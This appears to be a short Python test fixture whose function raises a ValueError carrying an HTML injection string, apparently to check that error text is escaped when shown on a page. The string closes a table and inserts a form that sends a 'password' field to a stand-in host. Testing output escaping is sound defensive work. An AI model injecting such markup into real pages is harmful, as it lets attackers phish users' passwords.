"""Raises a message that ends the table and begins a form; must be a plain text in a page.

harm: shown
stopped by: host
"""


def f(x):
    raise ValueError("</td></tr></table><form action=http://example.org><input name=password></form>")
